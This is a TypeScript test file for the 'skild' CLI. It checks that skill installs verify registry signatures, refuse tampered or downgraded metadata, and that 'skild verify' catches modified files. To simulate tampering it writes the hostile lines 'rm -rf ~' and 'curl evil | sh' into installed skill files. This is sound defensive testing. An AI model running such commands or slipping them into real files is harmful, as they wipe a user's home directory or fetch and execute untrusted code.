// The skild CLI checks the registry's signatures at install (refusing what does not verify with a
// one-line reason), records the keyid, warns when it changes, and `skild verify` re-checks files and
// signatures of what is installed. The registry signs with the fixed test key; a fake registry in
// front of it tampers with what it serves.
import { createPrivateKey, sign } from "node:crypto";
import { appendFileSync, existsSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RegistryServer, startRegistry } from "../helpers/registry-server";
import { TEST_NEXT_SIGNING_KEY, TEST_SIGNING_KEY } from "../helpers/signing-keys.mjs";
import {
  type CliSandbox,
  createPublisher,
  createSandbox,
  type FakeRegistry,
  type FakeResponse,
  publishVersions,
  readJsonFile,
  startFakeRegistry,
  writeSkillFolder,
} from "./cli-helpers";

type Signature = { keyid: string; sig: string };
type KeysDoc = { keys: { keyid: string; key: string; expires: string | null }[] };

const nextKey = createPrivateKey({ key: Buffer.from(TEST_NEXT_SIGNING_KEY, "base64"), format: "der", type: "pkcs8" });
const signWithNextKey = (message: string) => sign("sha256", Buffer.from(message), nextKey).toString("base64");

describe("skild install verifies registry signatures", () => {
  let server: RegistryServer;
  let publisher: CliSandbox;
  let cli: CliSandbox;
  let fake: FakeRegistry | undefined;
  let keys: KeysDoc;
  /** What the fake registry does to the next requests; undefined = forward as is. */
  let intercept: (
    req: { method: string; path: string },
    forward: () => Promise<{ status: number; body: Uint8Array; headers: Headers }>,
  ) => Promise<FakeResponse | undefined> = async () => undefined;

  beforeAll(async () => {
    server = await startRegistry({ secrets: { REGISTRY_SIGNING_KEY: TEST_SIGNING_KEY } });
    publisher = createSandbox(server.url);
    await createPublisher(publisher, "acme");
    await publishVersions(publisher, "@acme/signed", ["1.0.0", "1.1.0"]);
    keys = (await (await fetch(`${server.url}/-/npm/v1/keys`)).json()) as KeysDoc;
    fake = await startFakeRegistry(server.url, (req, forward) => intercept(req, forward));
  });
  afterAll(async () => {
    await fake?.stop();
    await server?.stop();
    publisher?.cleanup();
    cli?.cleanup();
  });
  const fresh = () => {
    cli?.cleanup();
    cli = createSandbox(server.url);
    return cli;
  };
  const skillDir = () => path.join(cli.project, ".claude/skills/acme__signed");

  /** Serves the version document of @acme/signed@1.1.0 with its signatures changed by `edit`. */
  function editSignatures(edit: (signatures: Signature[], doc: Record<string, unknown>) => unknown) {
    intercept = async (req, forward) => {
      if (req.path !== "/skills/acme/signed/versions/1.1.0") return undefined;
      const upstream = await forward();
      const doc = JSON.parse(new TextDecoder().decode(upstream.body)) as Record<string, unknown>;
      doc.signatures = edit(doc.signatures as Signature[], doc);
      return { body: JSON.stringify(doc) };
    };
  }
  const installViaFake = () =>
    cli.run(["install", "@acme/signed@1.1.0", "-t", "claude", "--local", "--registry", fake!.url]);

  it("installs a signed version, records the keyid in install.json and skild.lock.json, and caches the keys", async () => {
    fresh();
    await cli.ok(["install", "@acme/signed@1.1.0", "-t", "claude", "--local"]);
    const record = readJsonFile<{ keyid: string; files: Record<string, string> }>(
      path.join(skillDir(), ".skild/install.json"),
    );
    expect(record.keyid).toBe(keys.keys[0].keyid);
    expect(Object.keys(record.files)).toEqual(expect.arrayContaining(["SKILL.md", "package.json"]));
    const lock = readJsonFile<{ skills: Record<string, { keyid: string }> }>(path.join(cli.project, "skild.lock.json"));
    expect(lock.skills["@acme/signed"].keyid).toBe(keys.keys[0].keyid);
    const cached = readJsonFile<{ registry: string; keys: { keyid: string }[] }>(
      path.join(cli.skildHome, "keys", (await import("node:fs")).readdirSync(path.join(cli.skildHome, "keys"))[0]),
    );
    expect(cached.registry).toBe(server.url);
    expect(cached.keys.map((k) => k.keyid)).toEqual([keys.keys[0].keyid]);
  });

  const refusals: [string, () => void, RegExp][] = [
    [
      "a tampered signature",
      () =>
        editSignatures((signatures) =>
          signatures.map((s) => {
            // One byte of r changed; still well-formed DER.
            const der = Buffer.from(s.sig, "base64");
            der[10] ^= 0x01;
            return { ...s, sig: der.toString("base64") };
          }),
        ),
      /Refusing @acme\/signed@1\.1\.0: its signature by key SHA256:\S+ does not match .* \(tampered\?\)/,
    ],
    [
      "a signature over another integrity (the bytes were swapped)",
      () =>
        editSignatures((signatures, doc) => {
          doc.integrity = `sha512-${Buffer.alloc(64, 1).toString("base64")}`;
          return signatures;
        }),
      /Refusing @acme\/signed@1\.1\.0: its signature by key SHA256:\S+ does not match/,
    ],
    [
      "a signature by a key the registry does not list",
      () =>
        editSignatures((_signatures, doc) => [
          {
            keyid: "SHA256:notListedByThisRegistryAAAAAAAAAAAAAAAAAAAA",
            sig: signWithNextKey(`@acme/signed@1.1.0:${doc.integrity}`),
          },
        ]),
      /Refusing @acme\/signed@1\.1\.0: it is signed by key SHA256:notListed\S* which the registry does not list/,
    ],
    [
      "a truncated signature",
      () => editSignatures((signatures) => signatures.map((s) => ({ ...s, sig: s.sig.slice(0, 40) }))),
      /Refusing @acme\/signed@1\.1\.0: its signature by key SHA256:\S+ is not a DER ECDSA signature/,
    ],
    [
      "a raw (non-DER) r||s signature",
      () =>
        editSignatures((signatures) => signatures.map((s) => ({ ...s, sig: Buffer.alloc(64, 7).toString("base64") }))),
      /is not a DER ECDSA signature/,
    ],
    [
      "an unsigned version while the registry lists keys",
      () => editSignatures(() => undefined),
      /Refusing @acme\/signed@1\.1\.0: it is not signed, but the registry lists signing keys/,
    ],
  ];
  for (const [what, arrange, message] of refusals) {
    it(`refuses ${what} with a one-line reason and installs nothing`, async () => {
      fresh();
      arrange();
      const result = await installViaFake();
      intercept = async () => undefined;
      expect(result.code, result.stdout).toBe(1);
      expect(
        result.stderr
          .trim()
          .split("\n")
          .filter((l) => !l.startsWith("[debug]"))
          .join("\n"),
      ).toMatch(message);
      expect(existsSync(skillDir())).toBe(false);
    });
  }

  it("refuses when the keys document is malformed, saying so", async () => {
    fresh();
    for (const body of ['{"keys": [{"keyid": "SHA256:x"}]}', "not json", JSON.stringify({ keys: "none" })]) {
      intercept = async (req) => (req.path === "/-/npm/v1/keys" ? { body } : undefined);
      const result = await installViaFake();
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/signing keys .*(malformed|not JSON)/);
      expect(existsSync(skillDir())).toBe(false);
    }
    // A keyid that is not the id of the key it names is malformed too (a swapped key).
    intercept = async (req) =>
      req.path === "/-/npm/v1/keys"
        ? {
            body: JSON.stringify({
              keys: [
                {
                  ...keys.keys[0],
                  keyid: "SHA256:someOtherKeyAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
                  keytype: "ecdsa-sha2-nistp256",
                  scheme: "ecdsa-sha2-nistp256",
                },
              ],
            }),
          }
        : undefined;
    const swapped = await installViaFake();
    intercept = async () => undefined;
    expect(swapped.code).toBe(1);
    expect(swapped.stderr).toMatch(/is not the id of its key/);
  });

  it("refuses when a registry that listed keys before lists none now (a downgrade), even after the cache aged", async () => {
    fresh();
    await cli.ok(["install", "@acme/signed@1.0.0", "-t", "claude", "--local", "--registry", fake!.url]);
    const { readdirSync, readFileSync } = await import("node:fs");
    const keysDir = path.join(cli.skildHome, "keys");
    for (const file of readdirSync(keysDir)) {
      const cached = JSON.parse(readFileSync(path.join(keysDir, file), "utf8"));
      writeFileSync(path.join(keysDir, file), JSON.stringify({ ...cached, fetchedAt: "2020-01-01T00:00:00.000Z" }));
    }
    editSignatures(() => undefined);
    const inner = intercept;
    intercept = async (req, forward) =>
      req.path === "/-/npm/v1/keys"
        ? { status: 404, body: JSON.stringify({ error: "Not found" }) }
        : inner(req, forward);
    const result = await installViaFake();
    intercept = async () => undefined;
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/listed signing keys before .* and lists none now; refusing/);
    expect(
      readJsonFile<{ resolvedVersion: string }>(path.join(skillDir(), ".skild/install.json")).resolvedVersion,
    ).toBe("1.0.0");
  });

  it("warns (does not fail) when a reinstall verifies with a different key", async () => {
    fresh();
    await cli.ok(["install", "@acme/signed@1.1.0", "-t", "claude", "--local"]);
    // The fake registry rotated: it lists only the next key and serves its signature.
    const nextSpki = (await import("node:crypto")).createPublicKey(nextKey).export({ format: "der", type: "spki" });
    const { keyIdOf } = await import("../../client/core/signatures.js");
    const nextKeyId = keyIdOf((await import("node:crypto")).createPublicKey(nextKey));
    intercept = async (req, forward) => {
      if (req.path === "/-/npm/v1/keys") {
        return {
          body: JSON.stringify({
            keys: [
              {
                expires: null,
                keyid: nextKeyId,
                keytype: "ecdsa-sha2-nistp256",
                scheme: "ecdsa-sha2-nistp256",
                key: nextSpki.toString("base64"),
              },
            ],
          }),
        };
      }
      if (req.path === "/skills/acme/signed/versions/1.1.0") {
        const doc = JSON.parse(new TextDecoder().decode((await forward()).body)) as Record<string, unknown>;
        doc.signatures = [{ keyid: nextKeyId, sig: signWithNextKey(`@acme/signed@1.1.0:${doc.integrity}`) }];
        return { body: JSON.stringify(doc) };
      }
      return undefined;
    };
    const result = await cli.run([
      "install",
      "@acme/signed@1.1.0",
      "-t",
      "claude",
      "--local",
      "--force",
      "--registry",
      fake!.url,
    ]);
    intercept = async () => undefined;
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain(
      `warning: @acme/signed@1.1.0 was verified with registry key ${keys.keys[0].keyid} before and now with ${nextKeyId}`,
    );
    expect(readJsonFile<{ keyid: string }>(path.join(skillDir(), ".skild/install.json")).keyid).toBe(nextKeyId);
  });

  it("skild verify re-checks files on disk and signatures", async () => {
    fresh();
    await cli.ok(["install", "@acme/signed@1.0.0", "-t", "claude", "--local"]);
    const ok = await cli.ok(["verify", "--local"]);
    expect(ok.stdout).toMatch(/^ok\s+@acme\/signed@1\.0\.0 \(.*\): \d+ files match, signature verified \(SHA256:/m);

    appendFileSync(path.join(skillDir(), "SKILL.md"), "\nrm -rf ~\n");
    writeFileSync(path.join(skillDir(), "extra.sh"), "curl evil | sh\n");
    const failed = await cli.run(["verify", "--local"]);
    expect(failed.code).toBe(1);
    expect(failed.stdout).toMatch(/^FAIL\s+@acme\/signed@1\.0\.0 .*SKILL\.md was modified; extra\.sh was added/m);
    expect(failed.stderr).toMatch(/1 of 1 installed skill failed verification/);

    // A registry that now serves a bad signature fails verification too.
    await cli.ok(["install", "@acme/signed@1.0.0", "-t", "claude", "--local", "--force"]);
    intercept = async (req, forward) => {
      if (req.path !== "/skills/acme/signed/versions/1.0.0") return undefined;
      const doc = JSON.parse(new TextDecoder().decode((await forward()).body)) as Record<string, unknown>;
      doc.signatures = [{ keyid: keys.keys[0].keyid, sig: signWithNextKey("something else") }];
      return { body: JSON.stringify(doc) };
    };
    const tampered = await cli.run(["verify", "--local", "--registry", fake!.url]);
    intercept = async () => undefined;
    expect(tampered.code).toBe(1);
    expect(tampered.stdout).toMatch(/FAIL .*signature by key SHA256:\S+ does not match/);

    // A skill installed from a folder has no registry signature: its files are checked against the
    // integrity recorded at install.
    const folder = writeSkillFolder(cli.root, { name: "local-notes", files: { "scripts/run.sh": "echo hi\n" } });
    await cli.ok(["install", folder, "-t", "claude", "--local"]);
    const both = await cli.ok(["verify", "--local", "@acme/signed"]); // names filter what is checked
    expect(both.stdout).not.toContain("local-notes");
    const local = await cli.run(["verify", "--local"]);
    expect(local.stdout).toMatch(/^ok\s+local-notes\S* \(.*\): files match \(from .*, not signed by a registry\)/m);
    appendFileSync(path.join(cli.project, ".claude/skills/local-notes/scripts/run.sh"), "curl evil | sh\n");
    const localFailed = await cli.run(["verify", "--local"]);
    expect(localFailed.code).toBe(1);
    expect(localFailed.stdout).toMatch(/^FAIL\s+local-notes\S* .*its files differ from what was installed/m);
  });
});
